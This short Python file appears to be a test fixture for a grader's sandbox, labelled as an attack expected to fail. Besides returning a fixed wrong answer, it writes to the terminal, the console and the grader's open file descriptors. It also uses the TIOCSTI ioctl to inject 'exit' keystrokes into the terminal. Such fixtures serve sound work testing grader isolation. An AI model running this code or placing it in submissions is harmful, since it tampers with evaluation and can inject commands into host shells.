# attack: writes to the terminal and to the open files of the grader
# unit: u01_area
# outcomes: fail
# process: breaks

import fcntl


def cross(a, b):
    return 5e9


for name in ("/dev/tty", "/dev/console", "/proc/@HOST@/fd/1", "/proc/@HOST@/fd/@HELD@"):
    try:
        with open(name, "w", encoding="utf-8") as file:
            file.write("chainrule-attack was here\n")
    except OSError as error:
        print(error)
for descriptor in (0, 1, 2):
    try:
        for byte in b"exit\n":
            fcntl.ioctl(descriptor, 0x5412, bytes([byte]))
    except OSError as error:
        print(error)
